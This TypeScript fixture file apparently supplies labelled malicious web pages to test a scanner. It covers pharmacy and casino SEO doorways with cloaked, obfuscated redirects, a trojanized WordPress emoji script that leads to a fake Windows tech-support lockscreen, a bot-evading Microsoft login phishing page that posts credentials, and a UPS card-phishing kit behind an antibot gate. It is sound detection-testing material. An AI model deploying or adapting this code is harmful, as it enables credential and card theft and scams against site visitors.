import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, pngRoute } from '../parts/e-bin.js';

// SEO-spam doorway pages and cloaked kits in customers' sites.

export const entries: Entry[] = [
{
  id: 'zl-scam-doorway-pharma-redirect-de',
  label: 'scam',
  kind: 'seo-doorway',
  url: 'https://gesangverein-liederkranz-worms.de/news/viagra-kaufen-ohne-rezept-deutschland.html',
  body: `<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Viagra kaufen ohne Rezept Deutschland – Günstig Sildenafil online bestellen</title>
<meta name="description" content="viagra kaufen ohne rezept, sildenafil 100mg preis, cialis generika rezeptfrei, potenzmittel online bestellen deutschland">
</head><body><h1>Viagra kaufen ohne Rezept in Deutschland</h1>
<p>Viagra ohne Rezept kaufen ist einfacher als gedacht. Sildenafil 100mg günstig online bestellen, diskreter Versand, Zahlung per Rechnung. Viagra Generika kaufen, Viagra Preis Apotheke, Cialis kaufen ohne Rezept, Kamagra Oral Jelly bestellen.</p>
<p>Potenzmittel rezeptfrei: <a href="#">viagra 50mg</a> <a href="#">cialis 20mg</a> <a href="#">levitra kaufen</a> <a href="#">kamagra</a> <a href="#">tadalafil</a></p>
<script>var r=document.referrer;if(!/bot|crawl|spider/i.test(navigator.userAgent)){setTimeout(function(){window.location.replace('https://apotheke-diskret24.shop/de/?utm_src=lk&k='+encodeURIComponent(location.pathname))},150)}</script>
</body></html>`,
  routes: {
    'apotheke-diskret24.shop/de/': htmlRoute(`<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Diskret Apotheke 24 – Potenzmittel ohne Rezept</title></head><body style="font-family:Arial;margin:0">
<div style="background:#2e7d32;color:#fff;padding:16px 30px;font-size:22px">✚ Diskret Apotheke 24</div><div style="padding:30px"><h2>Viagra Original 100mg – 10 Tabletten 29,90 €</h2><p>Ohne Rezept · Ohne Arztbesuch · Lieferung aus EU-Versandapotheke</p>
<form action="/de/order" method="post"><select name="pack"><option>10 Tabletten – 29,90 €</option><option>30 Tabletten – 69,90 €</option><option>60 Tabletten – 119,90 €</option></select><input name="name" placeholder="Name"><input name="card" placeholder="Kreditkarte"><button>Jetzt bestellen</button></form>
<p style="font-size:11px;color:#888">Keine ärztliche Beratung erforderlich. 100% Zufriedenheitsgarantie.</p></div></body></html>`),
  },
},
{
  id: 'zl-scam-doorway-casino-it-obfuscated',
  label: 'scam',
  kind: 'seo-doorway',
  url: 'https://studio-dentistico-ferrari.it/wp-content/uploads/casino/migliori-casino-online-non-aams.html',
  body: `<!DOCTYPE html><html lang="it"><head><meta charset="utf-8"><title>Migliori Casino Online Non AAMS 2026 – Bonus Senza Deposito</title></head>
<body><h1>Casino non AAMS sicuri: la lista completa</h1><p>I migliori casino online non AAMS con bonus senza deposito immediato, slot machine gratis, roulette live, pagamenti in crypto e prelievi veloci. Casino stranieri che accettano giocatori italiani.</p>
<ul><li>casino non aams bonus benvenuto</li><li>slot non aams con free spin</li><li>casino crypto senza verifica</li></ul>
<script>eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1.2("3://4-5-6.7/8/?9=a")',11,11,'window|location|replace|https|spin|vinci|mania|bet|it|ref|sdf'.split('|'),0,{}))</script>
</body></html>`,
  routes: {
    'spin-vinci-mania.bet/it/': htmlRoute(`<!DOCTYPE html><html lang="it"><head><meta charset="utf-8"><title>SpinVinci Casino – 500% Bonus + 200 Free Spin</title></head><body style="margin:0;background:#1a0533;color:#fff;font-family:Arial;text-align:center">
<h1 style="padding-top:60px;color:#ffd34d">500% BONUS FINO A 3.000 € + 200 GIRI GRATIS</h1><p>Nessuna verifica KYC · Prelievi in 5 minuti · Licenza Curaçao</p>
<form action="/it/register" method="post" style="max-width:340px;margin:auto"><input name="email" placeholder="Email" style="width:100%;padding:10px;margin:5px 0"><input name="pw" type="password" placeholder="Password" style="width:100%;padding:10px;margin:5px 0"><button style="width:100%;padding:12px;background:#ffd34d;border:0;font-weight:700">REGISTRATI E DEPOSITA</button></form></body></html>`),
  },
},
{
  id: 'zl-scam-doorway-wp-tds-techsupport-fr',
  label: 'scam',
  kind: 'seo-doorway',
  url: 'https://camping-les-pins-argeles.fr/?p=48213',
  body: `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Camping Les Pins – Argelès-sur-Mer</title>
<script src="https://camping-les-pins-argeles.fr/wp-includes/js/wp-emoji-release.min.js?ver=6.4.2"></script></head>
<body><h1>Camping Les Pins</h1><p>Camping familial 3 étoiles à 400 m de la plage. Emplacements, mobil-homes, piscine chauffée.</p><p>Réservation : 04 68 00 00 00</p></body></html>`,
  routes: {
    'camping-les-pins-argeles.fr/wp-includes/js/wp-emoji-release.min.js': jsRoute(`/*! This file is auto-generated */
!function(e,a,t){var n,r,o,i=a.createElement("canvas"),p=i.getContext&&i.getContext("2d");function s(e,t){return !0}}(window,document,window._wpemojiSettings);
;(function(){if(document.cookie.indexOf('wp_tz_v=')>-1)return;document.cookie='wp_tz_v=1;max-age=86400;path=/';var s=String.fromCharCode;var u=[104,116,116,112,115,58,47,47,116,100,115,46,99,108,105,99,107,45,114,111,117,116,101,114,46,115,112,97,99,101,47,103,111,63,115,61,49,50];
var x=new XMLHttpRequest();x.open('GET',s.apply(null,u)+'&r='+encodeURIComponent(location.href),true);x.onload=function(){try{var j=JSON.parse(x.responseText);if(j.l)top.location.href=j.l}catch(e){}};x.send()})();`),
    'tds.click-router.space/go': { status: 200, headers: { 'content-type': 'application/json', 'access-control-allow-origin': '*' }, body: '{"l":"https://assistance-securite-windows.online/fr/alerte/"}' },
    'assistance-securite-windows.online/fr/alerte/': htmlRoute(`<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Alerte de sécurité Windows</title></head><body style="margin:0;background:#0078d7;color:#fff;font-family:'Segoe UI'">
<div style="max-width:700px;margin:60px auto;background:#fff;color:#222;padding:30px"><h2 style="color:#c00">⚠ Cheval de Troie détecté : Trojan:Win32/Emotet</h2><p>Votre ordinateur a été bloqué. Vos mots de passe, photos et données bancaires sont en danger.</p>
<p>Ne redémarrez pas votre ordinateur. Appelez immédiatement le support technique Microsoft :</p><p style="font-size:28px;font-weight:700;color:#0078d7">☎ 09 70 73 00 00 (Appel gratuit)</p><p>Code erreur : #0x268d3</p></div>
<script>document.addEventListener('click',function(){try{document.documentElement.requestFullscreen()}catch(e){}});history.pushState(null,'',location.href);window.onpopstate=function(){history.pushState(null,'',location.href)};window.onbeforeunload=function(){return 'Votre ordinateur est bloqué'}</script></body></html>`),
  },
},
{
  id: 'zl-phish-cloaked-ua-check-m365',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://kanzlei-dr-vogt.de/.well-known/pki-validation/doc/view.php',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>404 Not Found</title></head><body><h1>Not Found</h1><p>The requested URL was not found on this server.</p><hr><address>Apache/2.4.58 (Debian) Server at kanzlei-dr-vogt.de Port 443</address>
<script>(function(){var u=navigator.userAgent;if(/bot|crawl|spider|headless|lighthouse|curl|python/i.test(u))return;if(!/Windows NT|Macintosh/.test(u))return;
var s=document.createElement('script');s.src='/.well-known/pki-validation/doc/k.js?'+Date.now();document.body.appendChild(s)})();</script></body></html>`,
  routes: {
    'kanzlei-dr-vogt.de/.well-known/pki-validation/doc/k.js': jsRoute(`document.title='Anmelden bei Ihrem Konto';document.body.innerHTML='<div style="font-family:Segoe UI;max-width:440px;margin:10vh auto;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)"><div style="color:#737373;font-size:18px">&#9632; Microsoft</div><h2>Anmelden</h2><p style="font-size:14px">Um die freigegebene Datei <b>Mandantenvereinbarung.pdf</b> anzusehen, melden Sie sich an.</p><form id="f"><input name="e" type="email" placeholder="E-Mail-Adresse" style="width:100%;padding:8px;margin:8px 0"><input name="p" type="password" placeholder="Kennwort" style="width:100%;padding:8px;margin:8px 0"><button style="background:#0067b8;color:#fff;border:0;padding:8px 30px">Anmelden</button></form></div>';
document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/.well-known/pki-validation/doc/s.php',{method:'POST',body:new FormData(this)}).then(function(){location.href='https://outlook.office.com/'})};`),
    'kanzlei-dr-vogt.de/.well-known/pki-validation/doc/s.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: 'ok' },
  },
},
{
  id: 'zl-phish-cloaked-antibot-gate-ups-es',
  label: 'phishing',
  kind: 'cloaked-kit',
  url: 'https://academia-ingles-valencia.es/components/com_content/tmp/envio/?id=ES4478AB21',
  body: `<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><title>Cargando...</title><style>body{font-family:Arial;text-align:center;padding-top:120px;color:#666}.sp{width:36px;height:36px;border:4px solid #ddd;border-top-color:#351c15;border-radius:50%;margin:auto;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}</style></head>
<body><div class="sp"></div><p>Verificando su navegador...</p>
<script>var fp={w:screen.width,h:screen.height,tz:Intl.DateTimeFormat().resolvedOptions().timeZone,wd:navigator.webdriver,pl:navigator.plugins.length,l:navigator.language};
fetch('antibot.php',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(fp)}).then(function(r){return r.json()}).then(function(j){if(j.pass)location.replace(j.to);else location.replace('https://www.google.es/')})</script></body></html>`,
  routes: {
    'academia-ingles-valencia.es/components/com_content/tmp/envio/antibot.php': { status: 200, headers: { 'content-type': 'application/json' }, body: '{"pass":true,"to":"seguimiento.php?s=7f1e"}' },
    'academia-ingles-valencia.es/components/com_content/tmp/envio/seguimiento.php': htmlRoute(`<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><title>UPS – Seguimiento de envío</title><style>body{margin:0;font-family:Arial;background:#f5f3f0}.h{background:#351c15;color:#ffb500;padding:16px 26px;font:700 26px Arial}.c{max-width:480px;margin:30px auto;background:#fff;padding:26px}input{width:100%;padding:10px;margin:5px 0 12px}button{background:#ffb500;border:0;padding:12px;width:100%;font-weight:700}</style></head>
<body><div class="h">UPS</div><div class="c"><h2>Envío retenido: tasas de aduana pendientes</h2><p>Número de seguimiento 1Z 4478 AB21 0398 2211. Importe pendiente: <b>1,99 €</b></p><form action="pago.php" method="post"><input name="titular" placeholder="Titular de la tarjeta"><input name="num" placeholder="Número de tarjeta"><input name="cad" placeholder="Caducidad MM/AA"><input name="cvv" placeholder="CVV"><button>Pagar 1,99 €</button></form></div></body></html>`),
  },
},
];
